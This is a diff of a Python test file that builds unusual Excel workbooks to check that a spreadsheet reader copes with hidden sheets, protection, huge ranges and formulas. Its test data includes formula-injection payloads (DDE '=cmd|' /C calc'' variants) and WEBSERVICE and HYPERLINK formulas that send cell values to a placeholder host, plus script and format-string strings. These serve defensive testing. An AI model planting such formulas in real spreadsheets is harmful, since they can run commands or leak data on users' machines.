@@ -34,12 +34,12 @@ EXPECTED = [
 ]
 
 
-def hidden_rows_and_columns(book, page):
+def hidden_rows_and_columns(_, page):
     page.row_dimensions[3].hidden = True
     page.column_dimensions["D"].hidden = True
 
 
-def hidden_sheets(book, page):
+def hidden_sheets(book, _):
     for state in ("hidden", "veryHidden"):
         other = book.create_sheet(state)
         other.sheet_state = state
@@ -49,7 +49,7 @@ def hidden_sheets(book, page):
 
 def protected(book, page):
     page.protection.sheet = True
-    page.protection.password = "secret"
+    page.protection.set_password("secret")
     book.security.lockStructure = True
 
 
@@ -68,25 +68,25 @@ def names_links_comments_and_tables(book, page):
     page.add_table(Table(displayName="Liste", ref="A2:G4"))
 
 
-def two_hundred_columns(book, page):
+def two_hundred_columns(_, page):
     for column in range(8, 201):
         page.cell(2, column, f"Rubrique {column}")
         page.cell(3, column, column)
 
 
-def twenty_thousand_formatted_empty_rows(book, page):
+def twenty_thousand_formatted_empty_rows(_, page):
     fill = PatternFill("solid", fgColor="FFFFFF")
     for line in range(5, 20_005):
         page.cell(line, 1).fill = fill
 
 
-def formulas(book, page):
+def formulas(_, page):
     page["H2"], page["H3"] = "Date de sortie", "=TODAY()-5000"
     page["I2"], page["I3"] = "RQTH", "=cmd|' /C calc'!A0"
     page["J2"], page["J3"] = "ETP", '=WEBSERVICE("https://exemple.invalid/"&A3)'
 
 
-def a_frozen_filtered_pane(book, page):
+def a_frozen_filtered_pane(_, page):
     page.freeze_panes = "C3"
     page.auto_filter.ref = "A2:G4"
     page.print_title_rows = "2:2"
@@ -119,7 +119,7 @@ def test_a_workbook_of_charts_alone_is_left_out(read_bytes):
 
 
 ATTACKS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
-           "=HYPERLINK(\"http://exemple.invalid?x=\"&A1,\"clic\")", "<script>alert(1)</script>", "{0.__class__}", "%s%n", "x" * 40_000]  # fmt: skip
+           '=HYPERLINK("http://exemple.invalid?x="&A1,"clic")', "<script>alert(1)</script>", "{0.__class__}", "%s%n", "x" * 40_000]  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: text[:12])
